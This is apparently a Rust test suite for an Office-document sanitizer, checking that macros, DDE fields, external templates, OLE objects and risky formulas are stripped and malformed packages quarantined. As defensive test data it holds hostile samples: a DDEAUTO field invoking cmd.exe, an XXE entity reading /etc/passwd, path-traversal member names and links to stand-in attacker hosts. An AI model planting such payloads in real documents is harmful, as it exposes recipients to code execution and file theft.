//! OOXML rebuilder behaviour, each case run through the fail-closed helper.

use crate::common;

use common::generate::*;
use common::*;
use mukaika_sanitizers::{FileKind, Policy, Verdict, What};

#[test]
fn removes_vba_and_renames_docm_to_docx() {
    let input = docm_with_macro().build();
    let outcome = assert_fail_closed("見積書.docm", &input);
    assert_eq!(outcome.report.detected_type, FileKind::Docm);
    assert!(
        removed(&outcome, What::Macro, "vbaProject"),
        "{:#?}",
        outcome.report.removed
    );
    assert!(removed(&outcome, What::Metadata, "docProps/core.xml"));
    let out = outcome.output().unwrap();
    assert_eq!(out.kind(), FileKind::Docx);
    assert_eq!(out.name(), "見積書.docx");
    let names = zip_names(out.bytes());
    assert!(
        !names
            .iter()
            .any(|n| n.contains("vba") || n.contains("docProps")),
        "{names:?}"
    );
    assert!(
        names.contains(&"word/media/image1.png".to_string()),
        "pictures stay: {names:?}"
    );
    let types = zip_text(out.bytes(), "[Content_Types].xml").unwrap();
    assert!(
        !types.contains("macroEnabled") && !types.contains("vbaProject"),
        "{types}"
    );
    assert!(types.contains(DOCX_MAIN));
    let doc = zip_text(out.bytes(), "word/document.xml").unwrap();
    assert!(doc.contains("①②③ ㈱テスト 髙橋"), "Japanese text survives");
    let rels = zip_text(out.bytes(), "word/_rels/document.xml.rels").unwrap();
    assert!(!rels.contains("vbaProject"));
}

#[test]
fn neutralises_dde_and_include_fields_but_keeps_their_results() {
    let outcome = assert_fail_closed("通知.docx", &docx_with_fields().build());
    assert!(
        removed(&outcome, What::Field, "DDEAUTO"),
        "{:#?}",
        outcome.report.removed
    );
    assert!(removed(&outcome, What::Field, "INCLUDETEXT"));
    assert!(!removed(&outcome, What::Field, "PAGE"));
    let doc = zip_text(outcome.output().unwrap().bytes(), "word/document.xml").unwrap();
    assert!(
        !doc.contains("DDE") && !doc.contains("INCLUDETEXT") && !doc.contains("cmd.exe"),
        "{doc}"
    );
    assert!(
        doc.contains("表示結果テキスト") && doc.contains("取り込み結果"),
        "results stay: {doc}"
    );
    assert!(
        doc.contains(" PAGE ") && doc.contains("fldChar"),
        "harmless PAGE field stays"
    );
}

#[test]
fn removes_external_references_objects_activex_and_customui() {
    let outcome = assert_fail_closed("依頼.docx", &docx_with_external_and_objects().build());
    for (what, needle) in [
        (What::ExternalReference, "attacker.invalid/template.dotm"),
        (What::OleObject, "embeddings/oleObject1.bin"),
        (What::OleObject, "mhtml:"),
        (What::Activex, "activeX1.xml"),
        (What::CustomUi, "customUI.xml"),
        (What::CustomXml, "customXml/item1.xml"),
        (What::Hyperlink, "https://example.invalid/phish"),
    ] {
        assert!(
            removed(&outcome, what, needle),
            "missing {what:?} {needle}: {:#?}",
            outcome.report.removed
        );
    }
    let out = outcome.output().unwrap().bytes();
    let names = zip_names(out);
    assert!(
        !names.iter().any(|n| n.contains("embeddings")
            || n.contains("activeX")
            || n.contains("customUI")
            || n.contains("customXml")),
        "{names:?}"
    );
    let settings = zip_text(out, "word/settings.xml").unwrap();
    assert!(!settings.contains("attachedTemplate"), "{settings}");
    let doc = zip_text(out, "word/document.xml").unwrap();
    assert!(
        !doc.contains("OLEObject") && !doc.contains("w:control"),
        "{doc}"
    );
    assert!(
        doc.contains("リンク文字") && doc.contains("<w:hyperlink>"),
        "link text stays, target goes: {doc}"
    );
    assert!(
        doc.contains("v:imagedata"),
        "the preview picture of the object stays"
    );
    for name in names.iter().filter(|n| n.ends_with(".rels")) {
        let rels = zip_text(out, name).unwrap();
        assert!(!rels.contains("External"), "{name}: {rels}");
    }
}

#[test]
fn keeps_hyperlinks_when_policy_allows() {
    let policy = Policy {
        keep_links: true,
        ..Policy::default()
    };
    let outcome = process_with(&docx_with_external_and_objects().build(), "a.docx", &policy);
    assert_eq!(outcome.report.verdict, Verdict::Sanitized);
    let rels = zip_text(
        outcome.output().unwrap().bytes(),
        "word/_rels/document.xml.rels",
    )
    .unwrap();
    assert!(
        rels.contains("https://example.invalid/phish?x=1&amp;y=2")
            && rels.contains("TargetMode=\"External\"")
    );
    assert!(
        !rels.contains("mhtml:"),
        "only hyperlinks may stay external"
    );
}

#[test]
fn drops_non_web_hyperlinks_even_when_links_are_kept() {
    let policy = Policy {
        keep_links: true,
        ..Policy::default()
    };
    let pkg = docx_benign().rel(
        "word/document.xml",
        "rId7",
        "hyperlink",
        "file://attacker.invalid/share/x.exe",
        true,
    );
    let outcome = process_with(&pkg.build(), "a.docx", &policy);
    assert!(removed(
        &outcome,
        What::Hyperlink,
        "file://attacker.invalid"
    ));
    let rels = zip_text(
        outcome.output().unwrap().bytes(),
        "word/_rels/document.xml.rels",
    )
    .unwrap();
    assert!(!rels.contains("file://"), "{rels}");
}

#[test]
fn removes_vba_xlm_sheet_dde_and_external_links_from_a_workbook() {
    let outcome = assert_fail_closed("集計.xlsm", &xlsm_with_macros().build());
    for (what, needle) in [
        (What::Macro, "vbaProject.bin"),
        (What::XlmMacroSheet, "macrosheets/sheet2.xml"),
        (What::XlmMacroSheet, "Auto_Open"),
        (What::ExternalReference, "externalLink1.xml"),
        (What::DataConnection, "connections.xml"),
        (What::Field, "cmd|"),
        (What::ExternalReference, "[1]Sheet1"),
    ] {
        assert!(
            removed(&outcome, what, needle),
            "missing {what:?} {needle}: {:#?}",
            outcome.report.removed
        );
    }
    let out = outcome.output().unwrap();
    assert_eq!(out.kind(), FileKind::Xlsx);
    assert_eq!(out.name(), "集計.xlsx");
    let wb = zip_text(out.bytes(), "xl/workbook.xml").unwrap();
    assert!(
        !wb.contains("Macro1") && !wb.contains("Auto_Open") && !wb.contains("activeTab"),
        "{wb}"
    );
    assert!(wb.contains("データ") && wb.contains("集計範囲"));
    let sheet = zip_text(out.bytes(), "xl/worksheets/sheet1.xml").unwrap();
    assert!(
        sheet.contains("SUM(B1:B1)") && sheet.contains("<v>42</v>") && !sheet.contains("cmd|"),
        "{sheet}"
    );
    assert!(!zip_names(out.bytes())
        .iter()
        .any(|n| n.contains("macrosheets") || n.contains("externalLinks") || n.contains("vba")));
}

#[test]
fn quarantines_a_macro_sheet_that_other_sheets_still_use() {
    let pkg = xlsm_with_macros().part(
        "xl/worksheets/sheet1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
        "<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>Macro1!A1</f></c></row></sheetData></worksheet>",
    );
    let outcome = process(&pkg.build(), "a.xlsm");
    assert_eq!(outcome.report.verdict, Verdict::Quarantined);
    assert!(outcome.output().is_none());
    assert_eq!(outcome.report.reason.unwrap().code, "unsupported");
}

#[test]
fn removes_vba_from_a_presentation() {
    let outcome = assert_fail_closed("説明会.pptm", &pptm_with_macro().build());
    assert!(removed(&outcome, What::Macro, "vbaProject.bin"));
    let out = outcome.output().unwrap();
    assert_eq!(out.kind(), FileKind::Pptx);
    assert!(zip_text(out.bytes(), "ppt/slides/slide1.xml")
        .unwrap()
        .contains("説明会資料（架空）"));
}

#[test]
fn drops_a_vba_project_disguised_as_an_image() {
    let pkg = docx_benign().part(
        "word/media/image1.png",
        "image/png",
        vba_project_bin("Module1", AUTO_OPEN_SHELL),
    );
    let outcome = assert_fail_closed("a.docx", &pkg.build());
    assert!(
        removed(&outcome, What::UnknownPart, "image1.png"),
        "{:#?}",
        outcome.report.removed
    );
    let out = outcome.output().unwrap().bytes();
    assert!(!zip_names(out).iter().any(|n| n.contains("image1")));
    assert!(
        !zip_text(out, "word/document.xml").unwrap().contains("rId2"),
        "the reference goes with the part"
    );
}

#[test]
fn drops_parts_no_relationship_reaches() {
    let pkg = docx_benign()
        .raw("word/orphan.bin", b"MZ orphan payload")
        .raw("evil.exe", b"MZ");
    let outcome = process(&pkg.build(), "a.docx");
    assert_eq!(outcome.report.verdict, Verdict::Sanitized);
    let names = zip_names(outcome.output().unwrap().bytes());
    assert!(
        !names
            .iter()
            .any(|n| n.contains("orphan") || n.contains("evil")),
        "{names:?}"
    );
}

fn quarantined_as(bytes: &[u8], code: &str) {
    let outcome = process(bytes, "a.docx");
    assert!(outcome.output().is_none());
    assert_eq!(outcome.report.verdict, Verdict::Quarantined);
    assert_eq!(
        outcome.report.reason.as_ref().unwrap().code,
        code,
        "{:?}",
        outcome.report.reason
    );
}

#[test]
fn quarantines_traversal_and_duplicate_member_names() {
    quarantined_as(
        &docx_benign().raw("../../evil.txt", b"x").build(),
        "malformed",
    );
    quarantined_as(
        &docx_benign().raw("WORD/DOCUMENT.XML", b"<x/>").build(),
        "malformed",
    );
}

#[test]
fn quarantines_encrypted_members() {
    let mut bytes = docx_benign().build();
    // Set the "encrypted" bit in every local and central header.
    let mut i = 0;
    while i + 10 < bytes.len() {
        if bytes[i..].starts_with(b"PK\x03\x04") {
            bytes[i + 6] |= 1;
        } else if bytes[i..].starts_with(b"PK\x01\x02") {
            bytes[i + 8] |= 1;
        }
        i += 1;
    }
    quarantined_as(&bytes, "encrypted");
}

#[test]
fn quarantines_overlapping_members() {
    let mut bytes = docx_benign().build();
    // Point the last central-directory entry at the first local header.
    let last_cd = bytes.windows(4).rposition(|w| w == b"PK\x01\x02").unwrap();
    bytes[last_cd + 42..last_cd + 46].copy_from_slice(&0u32.to_le_bytes());
    let outcome = process(&bytes, "a.docx");
    assert!(outcome.output().is_none());
    assert_eq!(outcome.report.verdict, Verdict::Quarantined);
}

#[test]
fn quarantines_compression_bombs() {
    let zeros = vec![0u8; 4 << 20];
    let pkg = docx_benign()
        .part("word/media/image2.png", "image/png", &zeros)
        .build();
    let mut policy = Policy::default();
    policy.limits.ratio_floor_bytes = 1 << 20;
    policy.limits.max_compression_ratio = 100;
    let outcome = process_with(&pkg, "a.docx", &policy);
    assert_eq!(
        outcome.report.reason.as_ref().map(|r| r.code.as_str()),
        Some("limit-exceeded")
    );
    assert!(outcome.report.reason.unwrap().detail.contains("compresses"));
}

#[test]
fn quarantines_doctype_and_unbalanced_fields() {
    let doctype = Ooxml::default()
        .part("word/document.xml", DOCX_MAIN, "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">&e;</w:document>")
        .rel("", "rId1", "officeDocument", "word/document.xml", false);
    quarantined_as(&doctype.build(), "malformed");
    let unbalanced = Ooxml::default()
        .part("word/document.xml", DOCX_MAIN, word_document("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO x</w:instrText></w:r></w:p>"))
        .rel("", "rId1", "officeDocument", "word/document.xml", false);
    quarantined_as(&unbalanced.build(), "malformed");
}

#[test]
fn quarantines_a_package_whose_main_part_is_missing() {
    let pkg = Ooxml::default()
        .part("word/document.xml", DOCX_MAIN, word_document(&para("x")))
        .rel("", "rId1", "officeDocument", "word/missing.xml", false);
    let outcome = process(&pkg.build(), "a.docx");
    assert!(outcome.output().is_none());
}

const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
const STYLES: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml";

/// A benign styles part of `count` paragraph styles; 6,000 make about 600 KB, enough for the
/// rebuilder to spread the package's XML parts over threads.
fn styles(count: usize) -> String {
    let body: String = (0..count)
        .map(|i| format!("<w:style w:type=\"paragraph\" w:styleId=\"S{i}\"><w:name w:val=\"架空スタイル{i}\"/><w:rPr><w:sz w:val=\"21\"/></w:rPr></w:style>"))
        .collect();
    format!("<w:styles xmlns:w=\"{W}\">{body}</w:styles>")
}

/// The external-references document plus a footnote holding a DDE field (a finding in a part
/// other than the main one) and a styles part of `style_count` styles.
fn docx_with_footnote_dde(style_count: usize) -> Vec<u8> {
    let footnotes = format!("<w:footnotes xmlns:w=\"{W}\"><w:footnote w:id=\"1\"><w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"><w:r><w:t>脚注の結果</w:t></w:r></w:fldSimple></w:p></w:footnote></w:footnotes>");
    docx_with_external_and_objects()
        .part("word/styles.xml", STYLES, styles(style_count))
        .part(
            "word/footnotes.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml",
            footnotes,
        )
        .rel("word/document.xml", "rId10", "styles", "styles.xml", false)
        .rel(
            "word/document.xml",
            "rId11",
            "footnotes",
            "footnotes.xml",
            false,
        )
        .build()
}

#[test]
fn large_packages_report_the_same_removals_when_parts_are_rewritten_in_parallel() {
    let small = assert_fail_closed("小.docx", &docx_with_footnote_dde(3));
    let large_input = docx_with_footnote_dde(6000);
    assert!(
        large_input.len() > 20_000
            && zip_text(&large_input, "word/styles.xml").unwrap().len() > 512 * 1024
    );
    let large = assert_fail_closed("大.docx", &large_input);
    assert!(
        removed(&large, What::Field, "DDEAUTO"),
        "the footnote's field is found on a worker thread: {:#?}",
        large.report.removed
    );
    assert_eq!(
        large.report.removed, small.report.removed,
        "the same findings in the same order, however the parts were scheduled"
    );
    assert_eq!(large.report.warnings, small.report.warnings);
    let out = large.output().unwrap().bytes();
    let footnotes = zip_text(out, "word/footnotes.xml").unwrap();
    assert!(
        !footnotes.contains("DDE") && footnotes.contains("脚注の結果"),
        "{footnotes}"
    );
    assert!(zip_text(out, "word/styles.xml")
        .unwrap()
        .contains("架空スタイル5999"));
    for _ in 0..3 {
        let again = process(&large_input, "大.docx");
        assert_eq!(again.report, large.report);
        assert_eq!(
            again.output().unwrap().bytes(),
            out,
            "output is deterministic"
        );
    }
}

#[test]
fn quarantines_a_macro_sheet_still_used_by_a_large_sheet_rewritten_in_parallel() {
    let rows: String = (1..=8000)
        .map(|r| format!("<row r=\"{r}\"><c r=\"A{r}\"><v>{r}</v></c></row>"))
        .collect();
    let sheet = format!("<worksheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>{rows}<row r=\"8001\"><c r=\"A8001\"><f>Macro1!A1</f></c></row></sheetData></worksheet>");
    assert!(sheet.len() > 256 * 1024);
    let pkg = xlsm_with_macros()
        .part(
            "xl/worksheets/sheet1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            sheet,
        )
        .part(
            "xl/styles.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml",
            "<styleSheet xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"/>",
        )
        .rel("xl/workbook.xml", "rId6", "styles", "styles.xml", false);
    let outcome = process(&pkg.build(), "a.xlsm");
    assert_eq!(outcome.report.verdict, Verdict::Quarantined);
    assert!(outcome.output().is_none());
    assert_eq!(outcome.report.reason.unwrap().code, "unsupported");
}

// ---------------------------------------------------------------------------------------------
// Issue #20, class 3: fields inside mc:AlternateContent, Office Math runs and nested stories.
// ---------------------------------------------------------------------------------------------

const MARK: &str = HIDDEN_MARK;
const S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

/// Sanitizes a hostile document and checks the output everywhere: the marker and the field
/// words are gone from every part, the kept text is there, and a second pass removes nothing.
fn assert_fields_gone(name: &str, input: &[u8], kept: &[&str]) -> mukaika_sanitizers::Outcome {
    let outcome = assert_fail_closed(name, input);
    let out = outcome.output().unwrap().bytes();
    for needle in [MARK, "DDEAUTO", "INCLUDETEXT"] {
        assert_eq!(
            zip_members_containing(out, needle),
            Vec::<String>::new(),
            "{name}: {needle} survives; report {:#?}",
            outcome.report.removed
        );
    }
    let doc = zip_text(out, "word/document.xml").unwrap();
    for text in kept {
        assert!(doc.contains(text), "{name}: {text} lost: {doc}");
    }
    assert_second_pass_removes_nothing(&outcome);
    outcome
}

#[test]
fn removes_fields_inside_alternate_content_branches() {
    // Word reads the Choice (it knows w14); another reader reads the Fallback. At run level
    // each branch holds bare run content — a whole complex field, or a simple field — that a
    // walk looking only at w:r children never sees; at paragraph level each holds runs.
    let outcome = assert_fields_gone(
        "代替.docx",
        &docx_with_fields_in_alternate_content(),
        &[
            "選択肢の結果",
            "代替の結果",
            "単純の結果",
            "段落の代替",
            "本文",
            "mc:Choice",
            "mc:Fallback",
        ],
    );
    for n in 1..=4 {
        assert!(
            removed(&outcome, What::Field, &format!("{MARK}-{n}")),
            "field {n}: {:#?}",
            outcome.report.removed
        );
    }
}

#[test]
fn removes_fields_inside_office_math_runs() {
    let outcome = assert_fields_gone(
        "数式.docx",
        &docx_with_field_in_math(),
        &["数式の結果", "x=1"],
    );
    assert!(
        removed(&outcome, What::Field, "DDEAUTO"),
        "{:#?}",
        outcome.report.removed
    );
}

#[test]
fn removes_fields_in_a_text_box_inside_a_run() {
    let outcome = assert_fields_gone(
        "枠.docx",
        &docx_with_field_in_text_box(),
        &["枠内の結果", "txbxContent"],
    );
    assert!(removed(&outcome, What::Field, "DDEAUTO"));
}

#[test]
fn quarantines_a_field_left_open_inside_an_alternate_content_branch() {
    // Which runs a reader joins to a field opened in a branch is not ours to guess: a field
    // must open and close inside one story, or the document waits in quarantine.
    let body = format!(
        "<w:p><w:r><mc:AlternateContent><mc:Choice Requires=\"w14\"><w:fldChar w:fldCharType=\"begin\"/><w:instrText> {} </w:instrText></mc:Choice><mc:Fallback><w:t>x</w:t></mc:Fallback></mc:AlternateContent></w:r></w:p>{}",
        dde_instr(7),
        para("本文"),
    );
    let outcome = process(&docx_mc(&body), "open.docx");
    assert_eq!(
        outcome.report.verdict,
        Verdict::Quarantined,
        "{:#?}",
        outcome.report.removed
    );
    assert!(outcome.output().is_none());
    assert_eq!(outcome.report.reason.unwrap().code, "malformed");
}

// ---------------------------------------------------------------------------------------------
// Issue #20, class 4: formulas wherever a workbook keeps them.
// ---------------------------------------------------------------------------------------------

/// Sanitizes a workbook and checks no part of the output holds the marker, and that a second
/// pass removes nothing.
fn assert_formulas_gone(name: &str, input: &[u8]) -> mukaika_sanitizers::Outcome {
    let outcome = assert_fail_closed(name, input);
    let out = outcome.output().unwrap().bytes();
    assert_eq!(
        zip_members_containing(out, MARK),
        Vec::<String>::new(),
        "{name}: the marker survives; report {:#?}",
        outcome.report.removed
    );
    assert_second_pass_removes_nothing(&outcome);
    outcome
}

#[test]
fn removes_a_dde_call_behind_a_double_quote_in_a_quoted_sheet_name() {
    // The `"` inside the quoted sheet name once opened a "string" that swallowed the `|`.
    let outcome = assert_formulas_gone("引用.xlsx", &xlsx_with_quoted_sheet_dde());
    assert!(
        removed(&outcome, What::Field, "cell A1"),
        "{:#?}",
        outcome.report.removed
    );
    assert!(removed(&outcome, What::Field, "cell B1"));
    let out = zip_text(
        outcome.output().unwrap().bytes(),
        "xl/worksheets/sheet1.xml",
    )
    .unwrap();
    assert!(
        out.contains("<c r=\"A1\"><v>7</v></c>") && out.contains("<c r=\"B1\"><v>8</v></c>"),
        "cached values stay: {out}"
    );
    assert!(
        out.contains("&amp;\"x|y\"</f>"),
        "a `|` inside a string is not DDE: {out}"
    );
}

#[test]
fn removes_outside_formulas_from_cells_validation_conditional_formats_extensions_and_names() {
    let outcome = assert_formulas_gone("集計.xlsx", &xlsx_with_outside_formulas());
    for (what, needle) in [
        (What::ExternalReference, "name 外部"),
        (What::Field, "name 実行"),
        (What::DataConnection, "name ウェブ"),
        (What::ExternalReference, "name 他ファイル"),
        (What::Hyperlink, "cell D1"),
        (What::DataConnection, "cell E1"),
        (What::ExternalReference, "cell A2"),
        (What::DataConnection, "conditional format B1"),
        (What::ExternalReference, "conditional format B2"),
        (What::ExternalReference, "data validation G1"),
        (What::Field, "data validation H1"),
        (What::Hyperlink, "conditional format H2"),
        (What::ExternalReference, "sparkline J1"),
    ] {
        assert!(
            removed(&outcome, what, needle),
            "missing {what:?} {needle}: {:#?}",
            outcome.report.removed
        );
    }
    assert_eq!(
        outcome.report.removed.len(),
        13,
        "{:#?}",
        outcome.report.removed
    );
    let out = outcome.output().unwrap().bytes();
    let wb = zip_text(out, "xl/workbook.xml").unwrap();
    assert!(wb.contains("集計範囲") && !wb.contains("外部"), "{wb}");
    let ws = zip_text(out, "xl/worksheets/sheet1.xml").unwrap();
    for kept in [
        "<c r=\"D1\" t=\"str\"><v>開く</v></c>",
        "<c r=\"E1\" t=\"str\"><v>応答</v></c>",
        "<c r=\"A2\"><v>1</v></c>",
        "<c r=\"A3\"><v>2</v></c>",
        "<f t=\"shared\" si=\"1\"/><v>400</v>",
        "SUM(B1:B1)",
        "F1&gt;10",
        "\"はい,いいえ\"",
    ] {
        assert!(ws.contains(kept), "{kept} lost: {ws}");
    }
    for gone in [
        "sqref=\"B1\"",
        "sqref=\"B2\"",
        "sqref=\"G1\"",
        "count=",
        "extLst",
        "x14:",
    ] {
        assert!(!ws.contains(gone), "{gone} left: {ws}");
    }
}

#[test]
fn removes_outside_formulas_from_table_columns() {
    let sheet = "<sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>項目</t></is></c><c r=\"B1\" t=\"inlineStr\"><is><t>計算</t></is></c></row><row r=\"2\"><c r=\"A2\"><v>1</v></c><c r=\"B2\"><v>2</v></c></row></sheetData><tableParts count=\"1\"><tablePart r:id=\"rId1\"/></tableParts>";
    let table = format!(
        "<table xmlns=\"{S}\" id=\"1\" name=\"表1\" displayName=\"表1\" ref=\"A1:B2\"><tableColumns count=\"2\"><tableColumn id=\"1\" name=\"項目\" totalsRowFunction=\"custom\"><totalsRowFormula>SUBTOTAL(109,[項目])</totalsRowFormula></tableColumn><tableColumn id=\"2\" name=\"計算\"><calculatedColumnFormula>_xlfn.WEBSERVICE(\"http://{MARK}-t.invalid/\"&amp;[@項目])</calculatedColumnFormula></tableColumn></tableColumns></table>"
    );
    let pkg = xlsx_package("", sheet)
        .part(
            "xl/tables/table1.xml",
            "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml",
            table,
        )
        .rel(
            "xl/worksheets/sheet1.xml",
            "rId1",
            "table",
            "../tables/table1.xml",
            false,
        );
    let outcome = assert_formulas_gone("表.xlsx", &pkg.build());
    assert!(
        removed(&outcome, What::DataConnection, "calculatedColumnFormula"),
        "{:#?}",
        outcome.report.removed
    );
    let table = zip_text(outcome.output().unwrap().bytes(), "xl/tables/table1.xml").unwrap();
    assert!(
        table.contains("SUBTOTAL(109,[項目])") && table.contains("name=\"計算\""),
        "{table}"
    );
}

#[test]
fn an_element_without_a_name_is_held_as_malformed_not_written_as_an_unreadable_close_tag() {
    // `<\n/>` reads as an element with an empty name; written back it was `</>`, which the
    // re-check could not parse (internal-error). Found by the ooxml fuzz target.
    let input = docx_benign()
        .part(
            "word/document.xml",
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            word_document(&format!("{}<\n/>", para("本文"))),
        )
        .build();
    let outcome = process(&input, "a.docx");
    assert_eq!(outcome.report.verdict, Verdict::Quarantined);
    let reason = outcome.report.reason.unwrap();
    assert_eq!(reason.code, "malformed", "{}", reason.detail);
}
